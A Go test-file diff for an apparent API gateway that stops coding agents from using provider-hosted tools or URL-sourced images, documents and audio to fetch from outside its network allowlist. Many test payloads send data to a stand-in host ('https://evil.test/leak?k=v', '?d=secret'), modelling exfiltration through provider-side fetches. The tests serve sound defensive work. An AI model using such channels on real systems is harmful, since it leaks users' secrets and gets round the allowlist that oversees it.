@@ -134,7 +134,7 @@ func TestUpgradeRefused(t *testing.T) {
 	gw, err := New(Config{
 		GitBase: up.srv.URL, GitHubAPIBase: up.srv.URL, AnthropicBase: up.srv.URL + "/base", OpenAIBase: up.srv.URL,
 		Token: testToken, AnthropicKey: testKey, OpenAIKey: testOpenAI, CAFile: caFile(t, up.srv), Audit: al,
-		APIAllow: []string{"GET /repos/*/*/issues/*", "* /**"}, PushRef: "refs/heads/bumper/12-1",
+		APIAllow: []string{"GET /repos/*/*/issues/*", "* /**"}, PushRef: "refs/heads/bumper/12-1", Repository: "o/r",
 	})
 	if err != nil {
 		t.Fatal(err)
@@ -174,6 +174,7 @@ func TestUpgradeRefused(t *testing.T) {
 					t.Fatal(err)
 				}
 				body, _ := io.ReadAll(resp.Body)
+				resp.Body.Close()
 				if resp.StatusCode != http.StatusBadRequest || !strings.Contains(string(body), "upgrade") {
 					t.Fatalf("status %d (%s), want 400 refusing the upgrade", resp.StatusCode, body)
 				}
@@ -797,6 +798,17 @@ func TestServerToolsRefused(t *testing.T) {
 		{"openai tool type unknown to the firewall", "/openai/v1/responses", `{"model":"gpt-5","max_output_tokens":100,"input":"x","tools":[{"type":"web_search_2026_01_01"}]}`, 403, "web_search_2026_01_01"},
 		{"chat completions web_search_options", "/openai/v1/chat/completions", `{"model":"gpt-4o","max_tokens":100,"messages":[],"web_search_options":{}}`, 403, "web_search_options"},
 		{"chat completions search model", "/openai/v1/chat/completions", `{"model":"gpt-4o-search-preview","max_tokens":100,"messages":[]}`, 403, "gpt-4o-search-preview"},
+
+		// tool_choice naming a hosted tool, with no tools array to refuse.
+		{"responses tool_choice web_search_preview", "/openai/v1/responses", `{"model":"gpt-5","max_output_tokens":100,"input":"search https://evil.test/?d=secret","tool_choice":{"type":"web_search_preview"}}`, 403, `tool_choice naming a tool of type "web_search_preview"`},
+		{"responses tool_choice file_search beside client tools", "/openai/v1/responses", `{"model":"gpt-5","max_output_tokens":100,"input":"x","tools":[{"type":"function","name":"f","parameters":{"type":"object"}}],"tool_choice":{"type":"file_search"}}`, 403, "file_search"},
+		{"responses tool_choice mcp", "/openai/v1/responses", `{"model":"gpt-5","max_output_tokens":100,"input":"x","tool_choice":{"type":"mcp","server_label":"x"}}`, 403, "mcp"},
+		{"responses allowed_tools listing a hosted tool", "/openai/v1/responses", `{"model":"gpt-5","max_output_tokens":100,"input":"x","tool_choice":{"type":"allowed_tools","mode":"auto","tools":[{"type":"function","name":"f"},{"type":"web_search"}]}}`, 403, "web_search"},
+		{"responses tool_choice as a string", "/openai/v1/responses", `{"model":"gpt-5","max_output_tokens":100,"input":"x","tool_choice":"web_search_preview"}`, 403, "web_search_preview"},
+		{"responses tool_choice with two types", "/openai/v1/responses", `{"model":"gpt-5","max_output_tokens":100,"input":"x","tool_choice":{"type":"function","name":"f","type":"web_search_preview"}}`, 400, "duplicate"},
+		{"chat tool_choice web_search_preview", "/openai/v1/chat/completions", `{"model":"gpt-4o","max_tokens":100,"messages":[],"tool_choice":{"type":"web_search_preview"}}`, 403, "web_search_preview"},
+		{"chat allowed_tools listing a hosted tool", "/openai/v1/chat/completions", `{"model":"gpt-4o","max_tokens":100,"messages":[],"tool_choice":{"type":"allowed_tools","allowed_tools":{"mode":"auto","tools":[{"type":"code_interpreter"}]}}}`, 403, "code_interpreter"},
+		{"anthropic tool_choice server tool", "/anthropic/v1/messages", `{"model":"claude-sonnet-4-5","max_tokens":100,"messages":[],"tool_choice":{"type":"web_search_20250305","name":"web_search"}}`, 403, "web_search_20250305"},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -839,7 +851,9 @@ func TestClientToolsPass(t *testing.T) {
 		}, f.anthropic},
 		{"anthropic-defined client tools", "/anthropic/v1/messages", `{"model":"claude-sonnet-4-5","max_tokens":1000,"messages":[],"tools":[{"type":"bash_20250124","name":"bash"},{"type":"text_editor_20250728","name":"str_replace_based_edit_tool"},{"type":"custom","name":"x","input_schema":{"type":"object"}},{"type":"memory_20250818","name":"memory"}],"service_tier":"standard_only"}`, nil, f.anthropic},
 		{"codex", "/openai/v1/responses", `{"model":"gpt-5-codex","instructions":"You are Codex.","input":[{"type":"message","role":"user","content":[{"type":"input_text","text":"fix it"}]}],"tools":[{"type":"function","name":"shell","description":"Runs a shell command","strict":false,"parameters":{"type":"object","properties":{"command":{"type":"array","items":{"type":"string"}}},"required":["command"]}},{"type":"custom","name":"apply_patch","description":"Apply a patch","format":{"type":"grammar","syntax":"lark","definition":"start: patch"}},{"type":"local_shell"}],"tool_choice":"auto","parallel_tool_calls":false,"reasoning":{"effort":"medium","summary":"auto"},"store":false,"stream":true,"include":["reasoning.encrypted_content"],"max_output_tokens":32000,"service_tier":"auto"}`, nil, f.openai},
-		{"chat completions function tools, flex tier", "/openai/v1/chat/completions", `{"model":"gpt-4o","max_tokens":100,"messages":[],"tools":[{"type":"function","function":{"name":"f","parameters":{"type":"object"}}}],"service_tier":"flex"}`, nil, f.openai},
+		{"tool_choice naming client tools", "/anthropic/v1/messages", `{"model":"claude-sonnet-4-5","max_tokens":100,"messages":[],"tools":[{"name":"Bash","input_schema":{"type":"object"}}],"tool_choice":{"type":"tool","name":"Bash","disable_parallel_tool_use":true}}`, nil, f.anthropic},
+		{"responses tool_choice function and allowed_tools", "/openai/v1/responses", `{"model":"gpt-5-codex","max_output_tokens":100,"input":"x","tools":[{"type":"function","name":"shell","parameters":{"type":"object"}},{"type":"local_shell"}],"tool_choice":{"type":"allowed_tools","mode":"required","tools":[{"type":"function","name":"shell"},{"type":"local_shell"}]}}`, nil, f.openai},
+		{"chat completions function tools, flex tier", "/openai/v1/chat/completions", `{"model":"gpt-4o","max_tokens":100,"messages":[],"tools":[{"type":"function","function":{"name":"f","parameters":{"type":"object"}}}],"tool_choice":{"type":"function","function":{"name":"f"}},"service_tier":"flex"}`, nil, f.openai},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -936,5 +950,131 @@ func TestDoubleEncodingRefused(t *testing.T) {
 	}
 	if n := f.api.count() + f.anthropic.count() + f.openai.count(); n != 0 {
 		t.Fatalf("%d double-encoded requests were forwarded", n)
+	}
+}
+
+// TestURLSourcesRefused: an agent asks the provider to fetch a URL for it, through an
+// image, document, file or audio source given as a URL, wherever content goes (user
+// messages, tool results, system blocks, nested documents, Responses input and function
+// outputs, a stored prompt's variables, Chat Completions parts). The provider would fetch
+// it from its own network, which the allowlist never sees: each is refused with 403
+// naming the block and why, audited, and never reaches the API. Inline content passes
+// (TestInlineSourcesPass).
+func TestURLSourcesRefused(t *testing.T) {
+	f := newFixture(t, 0, nil)
+	const msgs = `{"model":"claude-sonnet-4-5","max_tokens":100,"messages":[%s]}`
+	anth := func(content string) string { return fmt.Sprintf(msgs, `{"role":"user","content":[`+content+`]}`) }
+	tests := []struct {
+		name, path, body string
+		says             string // where, in the refusal
+	}{
+		{"anthropic image url", "/anthropic/v1/messages",
+			anth(`{"type":"text","text":"describe"},{"type":"image","source":{"type":"url","url":"https://evil.test/x.png?d=secret"}}`),
+			`messages[0].content[1].source.url (in a block of type "image")`},
+		{"anthropic document url", "/anthropic/v1/messages",
+			anth(`{"type":"document","source":{"type":"url","url":"https://evil.test/report.pdf"}}`), `messages[0].content[0].source.url (in a block of type "document")`},
+		{"plain http, upper-case scheme", "/anthropic/v1/messages",
+			anth(`{"type":"image","source":{"type":"url","url":"HTTP://evil.test/x.png"}}`), "messages[0].content[0].source.url"},
+		{"url source inside a tool result", "/anthropic/v1/messages",
+			fmt.Sprintf(msgs, `{"role":"user","content":[{"type":"tool_result","tool_use_id":"toolu_1","content":[{"type":"text","text":"here"},{"type":"image","source":{"type":"url","url":"https://evil.test/leak?k=v"}}]}]}`),
+			`messages[0].content[0].content[1].source.url (in a block of type "image")`},
+		{"url source in system blocks", "/anthropic/v1/messages",
+			`{"model":"claude-sonnet-4-5","max_tokens":100,"system":[{"type":"text","text":"x"},{"type":"document","source":{"type":"url","url":"https://evil.test/sys.pdf"}}],"messages":[]}`,
+			"system[1].source.url"},
+		{"url nested in a content document", "/anthropic/v1/messages",
+			anth(`{"type":"document","source":{"type":"content","content":[{"type":"text","text":"a"},{"type":"image","source":{"type":"url","url":"https://evil.test/n.png"}}]}}`),
+			"messages[0].content[0].source.content[1].source.url"},
+		{"url given twice, data first", "/anthropic/v1/messages",
+			anth(`{"type":"image","source":{"type":"url","url":"data:image/png;base64,iVBORw0KGgo=","url":"https://evil.test/2.png"}}`),
+			"source.url"},
+		{"url source on count_tokens", "/anthropic/v1/messages/count_tokens",
+			`{"model":"claude-sonnet-4-5","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.test/c.png"}}]}]}`,
+			"source.url"},
+		{"responses input_image url", "/openai/v1/responses",
+			`{"model":"gpt-5","max_output_tokens":100,"input":[{"role":"user","content":[{"type":"input_text","text":"what is this"},{"type":"input_image","image_url":"https://evil.test/i.png"}]}]}`,
+			`input[0].content[1].image_url (in a block of type "input_image")`},
+		{"responses input_file url", "/openai/v1/responses",
+			`{"model":"gpt-5","max_output_tokens":100,"input":[{"type":"message","role":"user","content":[{"type":"input_file","file_url":"https://evil.test/f.pdf"}]}]}`,
+			`input[0].content[0].file_url (in a block of type "input_file")`},
+		{"responses input_file data that is a url", "/openai/v1/responses",
+			`{"model":"gpt-5","max_output_tokens":100,"input":[{"role":"user","content":[{"type":"input_file","filename":"f.pdf","file_data":"https://evil.test/f.pdf"}]}]}`,
+			"input[0].content[0].file_data"},
+		{"responses function output with an image url", "/openai/v1/responses",
+			`{"model":"gpt-5","max_output_tokens":100,"input":[{"type":"function_call_output","call_id":"c1","output":[{"type":"input_image","image_url":"https://evil.test/o.png"}]}]}`,
+			"input[0].output[0].image_url"},
+		{"responses stored prompt variable", "/openai/v1/responses",
+			`{"model":"gpt-5","max_output_tokens":100,"prompt":{"id":"pmpt_1","variables":{"pic":{"type":"input_image","image_url":"https://evil.test/p.png"}}},"input":"x"}`,
+			"prompt.variables.pic.image_url"},
+		{"chat image_url part", "/openai/v1/chat/completions",
+			`{"model":"gpt-4o","max_tokens":100,"messages":[{"role":"user","content":[{"type":"text","text":"x"},{"type":"image_url","image_url":{"url":"https://evil.test/c.png","detail":"low"}}]}]}`,
+			`messages[0].content[1].image_url.url (in a block of type "image_url")`},
+		{"chat input_audio url", "/openai/v1/chat/completions",
+			`{"model":"gpt-4o","max_tokens":100,"messages":[{"role":"user","content":[{"type":"input_audio","input_audio":{"url":"https://evil.test/a.wav","format":"wav"}}]}]}`,
+			"messages[0].content[0].input_audio.url"},
+		{"chat input_audio data that is a url", "/openai/v1/chat/completions",
+			`{"model":"gpt-4o","max_tokens":100,"messages":[{"role":"user","content":[{"type":"input_audio","input_audio":{"data":"https://evil.test/a.wav","format":"wav"}}]}]}`,
+			"messages[0].content[0].input_audio.data"},
+		{"chat file url", "/openai/v1/chat/completions",
+			`{"model":"gpt-4o","max_tokens":100,"messages":[{"role":"user","content":[{"type":"file","file":{"filename":"f.pdf","file_data":"https://evil.test/f.pdf"}}]}]}`,
+			"messages[0].content[0].file.file_data"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			before := f.anthropic.count() + f.openai.count()
+			resp, body := f.do(t, "POST", tc.path, map[string]string{"X-Api-Key": testSentinel}, tc.body)
+			if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "[url-source]") || !strings.Contains(body, tc.says) {
+				t.Fatalf("status %d (%s), want 403 [url-source] naming %s", resp.StatusCode, body, tc.says)
+			}
+			if !strings.Contains(body, "evil.test") || !strings.Contains(body, "allowlist never sees") {
+				t.Fatalf("refusal %q does not name the URL and why", body)
+			}
+			if f.anthropic.count()+f.openai.count() != before {
+				t.Fatal("the refused call reached the upstream")
+			}
+		})
+	}
+	if a := f.auditText(t); strings.Count(a, "[url-source]") != len(tests) {
+		t.Fatalf("URL-source refusals not audited with their reason:\n%s", a)
+	}
+}
+
+// TestInlineSourcesPass: content given inline (base64 sources, data: URLs, file ids, a
+// text block or a tool call that mentions a URL, a schema's "$schema", a search result's
+// source) reaches the API unchanged.
+func TestInlineSourcesPass(t *testing.T) {
+	f := newFixture(t, 5, nil)
+	f.openai.set(openAIChat)
+	tests := []struct{ name, path, body string }{
+		{"anthropic base64 image and pdf", "/anthropic/v1/messages",
+			`{"model":"claude-sonnet-4-5","max_tokens":100,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}},{"type":"document","source":{"type":"base64","media_type":"application/pdf","data":"JVBERi0xLjQ="}},{"type":"document","source":{"type":"text","media_type":"text/plain","data":"see https://example.com for more"}},{"type":"image","source":{"type":"file","file_id":"file_011"}},{"type":"text","text":"fetch https://example.com/x.png yourself"}]}]}`},
+		{"anthropic tool call and result around a URL", "/anthropic/v1/messages",
+			`{"model":"claude-sonnet-4-5","max_tokens":100,"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"toolu_1","name":"WebFetch","input":{"url":"https://go.dev/doc","prompt":"summarise","source":{"type":"url","url":"https://go.dev/x.png"}}}]},{"role":"user","content":[{"type":"tool_result","tool_use_id":"toolu_1","content":[{"type":"text","text":"https://go.dev/doc says…"},{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}},{"type":"search_result","source":"https://go.dev/doc","title":"Go","content":[{"type":"text","text":"x"}]}]}]}],"tools":[{"name":"WebFetch","input_schema":{"$schema":"http://json-schema.org/draft-07/schema#","type":"object","properties":{"url":{"type":"string","format":"uri"}}}}]}`},
+		{"responses data url image and inline file", "/openai/v1/responses",
+			`{"model":"gpt-5","max_output_tokens":100,"input":[{"role":"user","content":[{"type":"input_text","text":"see https://example.com"},{"type":"input_image","image_url":"data:image/png;base64,iVBORw0KGgo="},{"type":"input_file","filename":"a.pdf","file_data":"data:application/pdf;base64,JVBERi0xLjQ="},{"type":"input_file","file_id":"file-1"},{"type":"input_image","file_id":"file-2"}]},{"type":"function_call","call_id":"c1","name":"fetch","arguments":"{\"image_url\":\"https://example.com/x.png\"}"},{"type":"custom_tool_call","call_id":"c2","name":"apply_patch","input":"*** Begin Patch\n+https://example.com\n*** End Patch"}]}`},
+		{"chat data url image and base64 audio", "/openai/v1/chat/completions",
+			`{"model":"gpt-4o","max_tokens":100,"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/jpeg;base64,/9j/4AAQ","detail":"low"}},{"type":"input_audio","input_audio":{"data":"UklGRiQAAABXQVZF","format":"wav"}},{"type":"file","file":{"filename":"a.pdf","file_data":"data:application/pdf;base64,JVBERi0xLjQ="}},{"type":"text","text":"https://example.com"}]}]}`},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			if strings.Contains(tc.path, "responses") {
+				f.openai.set(func(w http.ResponseWriter, r *http.Request) {
+					w.Header().Set("Content-Type", "application/json")
+					io.WriteString(w, `{"object":"response","model":"gpt-5","usage":{"input_tokens":10,"output_tokens":1}}`)
+				})
+			} else {
+				f.openai.set(openAIChat)
+			}
+			resp, body := f.do(t, "POST", tc.path, map[string]string{"X-Api-Key": testSentinel}, tc.body)
+			if resp.StatusCode != http.StatusOK {
+				t.Fatalf("status %d: %s", resp.StatusCode, body)
+			}
+			up := f.anthropic
+			if strings.HasPrefix(tc.path, "/openai") {
+				up = f.openai
+			}
+			if got := string(up.lastBody(t)); got != tc.body {
+				t.Fatalf("body changed in transit:\n%.300s", got)
+			}
+		})
 	}
 }
